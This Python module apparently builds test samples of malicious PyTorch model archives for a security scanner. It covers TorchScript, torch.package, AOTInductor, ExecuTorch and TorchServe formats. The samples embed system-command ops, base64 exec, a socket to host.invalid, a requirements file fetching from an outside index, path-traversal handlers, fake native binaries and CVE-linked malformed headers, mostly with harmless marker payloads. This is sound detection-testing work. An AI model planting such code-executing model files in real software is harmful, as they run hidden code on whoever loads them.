"""PyTorch files that carry code beside their pickle: TorchScript, torch.package, AOTInductor, ExecuTorch, TorchServe."""

from __future__ import annotations

from typing import TYPE_CHECKING

from corpus.assemble import Call, Name, New, dump
from corpus.malicious.containers import EVIL, GOOD, QUIET
from corpus.packing import plain_zip, tarred
from corpus.sample import CODE, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)
PE = b"MZ" + bytes(58) + b"\x40\x00\x00\x00" + b"PE\x00\x00\x64\x86" + bytes(200)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(200)
STATIC = {"static": "needs the framework's own loader"}
MODULE = b"""class Net(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Net, x: Tensor) -> Tensor:
    %s
    return x
"""
SCRIPTS = {
    "system-operator": b'_0 = ops.aten.system("touch hauberk-marker")',
    "from-file": b'_0 = torch.from_file("/etc/hostname", False, 16)',
    "save": b'torch.save(x, "hauberk-marker")',
    "save-operator": b'_0 = ops.aten.save(x, "hauberk-marker")',
    "load-library": b'_0 = ops.load_library("payload.so")',
    "custom-operator": b"_0 = ops.evil_namespace.run(x)",
    "ops-image-read": b'_0 = ops.image.read_file("/etc/hostname")',
    "ops-image-write": b'_0 = ops.image.write_file("hauberk-marker", x)',
    "prim-python": b"_0 = ^Evil()(x)",
}


def script(code: bytes, root: str = "net", pickle: bytes = b"") -> dict[str, bytes]:
    pickle = pickle or dump(New(Name("__torch__", "Net")), 2)
    return {
        f"{root}/data.pkl": pickle, f"{root}/code/__torch__.py": MODULE % code,
        f"{root}/code/__torch__.py.debug_pkl": GOOD, f"{root}/constants.pkl": dump((), 2), f"{root}/version": b"3\n",
    }  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield the files of each kind."""
    for name, code in SCRIPTS.items():
        yield file("torchscript", name, "model.pt", plain_zip(script(code)), **STATIC)
    yield file(
        "torchscript", "pickle-runs", "model.pt", plain_zip(script(b"pass", pickle=EVIL)), loader="zip:net/data.pkl"
    )
    yield file(
        "torchscript",
        "constants-run",
        "model.pt",
        plain_zip({**script(b"pass"), "net/constants.pkl": QUIET}),
        loader="zip:net/constants.pkl",
    )
    yield file(
        "torchscript",
        "debug-pickle-runs",
        "model.pt",
        plain_zip({**script(b"pass"), "net/code/__torch__.py.debug_pkl": QUIET}),
        loader="zip:net/code/__torch__.py.debug_pkl",
    )
    yield file(
        "torchscript",
        "extra-file-is-an-elf",
        "model.pt",
        plain_zip({**script(b"pass"), "net/extra/x.so": ELF}),
        **STATIC,
    )
    yield from _packages()
    yield from _compiled()
    yield from _served()


def _packages() -> Iterator[Sample]:
    head = {"p/.data/version": b"6\n", "p/.data/extern_modules": b"os\n", "p/.data/python_version": b"3.11.7"}
    uses = dump(New(Name("<torch_package_0>.net", "Net")), 2)
    for name, code in {
        "marker": CODE.encode(), "system": b"import os\nos.system('touch hauberk-marker')\n",
        "subprocess": b"import subprocess as s\ns.run(['touch', 'hauberk-marker'])\n",
        "exec-of-base64": b"import base64\nexec(base64.b64decode('b3Blbignbi53Jyk='))\n", "socket": b"import socket\nsocket.create_connection(('host.invalid', 80))\n",
        "class-body": b"class Net:\n    __import__('os').system('touch hauberk-marker')\n",
        "decorator": b"@__import__('os').system\ndef f(): pass\n",
    }.items():  # fmt: skip
        data = plain_zip({**head, "p/net.py": code, "p/model/model.pkl": uses})
        yield file(
            "torch-package",
            f"source-{name}",
            "model.pt",
            data,
            loader="member-code:p/net.py" if name in ("marker", "system", "subprocess", "class-body") else "",
            static="" if name in ("marker", "system", "subprocess", "class-body") else "harmless stand-in",
        )
    yield file(
        "torch-package",
        "pickle-runs",
        "model.pt",
        plain_zip({**head, "p/model/model.pkl": EVIL}),
        loader="zip:p/model/model.pkl",
    )
    yield file(
        "torch-package",
        "resource-runs",
        "model.pt",
        plain_zip({**head, "p/res/a.pkl": QUIET}),
        loader="zip:p/res/a.pkl",
    )
    yield file(
        "torch-package",
        "extern-os",
        "model.pt",
        plain_zip({**head, "p/model/model.pkl": dump(Call("os", "system", (SHELL,)), 2)}),
        loader="zip:p/model/model.pkl",
    )


def _compiled() -> Iterator[Sample]:
    base = {"m/version": b"3\n", "m/archive_format": b"pt2", "m/byteorder": b"little", "m/models/model.json": b"{}"}
    for name, binary in {"elf": ELF, "pe": PE, "mach-o": MACHO}.items():
        for suffix in ("so", "bin"):
            data = plain_zip({**base, f"m/data/aotinductor/model/x.{suffix}": binary})
            yield file("aotinductor", f"{name}-{suffix}", "model.pt2", data, "AOTInductor", **STATIC)
    yield file(
        "aotinductor",
        "source",
        "model.pt2",
        plain_zip(
            {
                **base,
                "m/data/aotinductor/model/x.cpp": b"int main() { return 0; }",
                "m/data/aotinductor/model/x.so": ELF,
            }
        ),
        **STATIC,
    )
    yield file(
        "aotinductor", "cubin", "model.pt2", plain_zip({**base, "m/data/aotinductor/model/k.cubin": ELF}), **STATIC
    )
    yield file(
        "aotinductor",
        "sample-inputs-run",
        "model.pt2",
        plain_zip({**base, "m/data/sample_inputs/model.pt": plain_zip({"x/data.pkl": EVIL, "x/version": b"3\n"})}),
        **STATIC,
    )
    yield file(
        "aotinductor", "weights-run", "model.pt2", plain_zip({**base, "m/data/weights/weight_0": QUIET}), **STATIC
    )
    yield file(
        "aotinductor",
        "old-export-json",
        "model.pt2",
        plain_zip(
            {
                "serialized_exported_program.json": b"{}",
                "serialized_state_dict.pt": plain_zip({"x/data.pkl": EVIL, "x/version": b"3\n"}),
                "version": b"8.8",
            }
        ),
        **STATIC,
    )
    yield file(
        "aotinductor",
        "old-export-constants",
        "model.pt2",
        plain_zip({"serialized_exported_program.json": b"{}", "serialized_constants.pt": EVIL, "version": b"8.8"}),
        loader="zip:serialized_constants.pt",
    )
    tensor = bytes([0x18, 0, 0, 0]) + b"ET12"
    yield file("executorch", "delegate-is-an-elf", "model.pte", tensor + bytes(64) + ELF, **STATIC)
    yield file(
        "executorch",
        "overflowing-offset",
        "model.pte",
        b"\xff\xff\xff\x7f" + b"ET12" + bytes(32),
        "CVE-2025-30402",
        **STATIC,
    )
    yield file(
        "executorch",
        "extended-header-lies",
        "model.pte",
        tensor + b"eh00" + b"\x18\0\0\0" + b"\xff" * 16 + bytes(64),
        "CVE-2025-30404",
        **STATIC,
    )
    yield file("executorch", "zeros-for-a-table", "model.pte", b"\x00\x00\x00\x00ET12" + bytes(8), **STATIC)
    yield file("executorch", "followed-by-a-pickle", "model.pte", tensor + bytes(32) + EVIL, **STATIC)


def _served() -> Iterator[Sample]:
    manifest = b'{"model": {"modelName": "m", "serializedFile": "%s", "handler": "%s", "modelVersion": "1.0"}, "archiverVersion": "0.9"}'
    handler = b"import os\nos.system('touch hauberk-marker')\nclass Handler:\n    def handle(self, data, context):\n        return data\n"
    rows = {
        "handler-runs": {"MAR-INF/MANIFEST.json": manifest % (b"m.pt", b"handler.py"), "handler.py": handler, "m.pt": GOOD},
        "handler-in-a-folder": {"MAR-INF/MANIFEST.json": manifest % (b"m.pt", b"code/h.py:handle"), "code/h.py": handler, "m.pt": GOOD},
        "model-runs": {"MAR-INF/MANIFEST.json": manifest % (b"m.pt", b"image_classifier"), "m.pt": plain_zip({"x/data.pkl": EVIL, "x/version": b"3\n"})},
        "requirements-from-elsewhere": {
            "MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "h.py", "requirementsFile": "requirements.txt"}}',
            "h.py": handler, "requirements.txt": b"--index-url http://host.invalid/simple\nevil\n", "m.pt": GOOD,
        },
        "handler-by-path": {"MAR-INF/MANIFEST.json": manifest % (b"m.pt", b"/tmp/evil.py:handle"), "m.pt": GOOD},
        "handler-by-parents": {"MAR-INF/MANIFEST.json": manifest % (b"../../m.pt", b"../../evil.py"), "m.pt": GOOD},
        "manifest-broken": {"MAR-INF/MANIFEST.json": b'{"model": {"handler": "h.py"', "h.py": handler, "m.pt": GOOD},
    }  # fmt: skip
    for name, entries in rows.items():
        yield file("torchserve", name, "model.mar", plain_zip(entries), **STATIC)
        if name in ("handler-runs", "model-runs"):
            yield file("torchserve", f"{name}-tgz", "model.mar", _still(tarred(entries, "w:gz")), **STATIC)


def _still(data: bytes) -> bytes:
    return data[:4] + bytes(4) + data[8:]
